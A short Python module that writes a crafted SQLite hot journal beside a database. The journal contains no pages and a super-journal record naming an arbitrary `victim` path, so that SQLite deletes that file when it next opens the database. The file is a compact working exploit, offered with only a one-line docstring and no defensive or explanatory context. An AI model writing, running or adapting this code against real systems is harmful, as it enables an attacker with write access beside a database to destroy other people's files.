"""A journal as a stranger may make it: SQLite deletes the file that it names, if it opens what lies beside it."""

import struct
from pathlib import Path

MARK = bytes.fromhex("d9d505f920a163d7")
SECTOR, PAGE, PENDING_BYTE = 512, 4_096, 0x40000000


def hot_journal(database: Path, victim: Path) -> Path:
    """A journal beside a database that holds no page and names `victim` (SQLite's file format, section 3)."""
    name = str(victim).encode()
    head = MARK + struct.pack(">5I", 0, 0, database.stat().st_size // PAGE, SECTOR, PAGE)
    end = struct.pack(">I", PENDING_BYTE // PAGE + 1) + name + struct.pack(">2I", len(name), sum(name)) + MARK
    journal = database.with_name(database.name + "-journal")
    journal.write_bytes(head.ljust(SECTOR, b"\0") + end)
    return journal
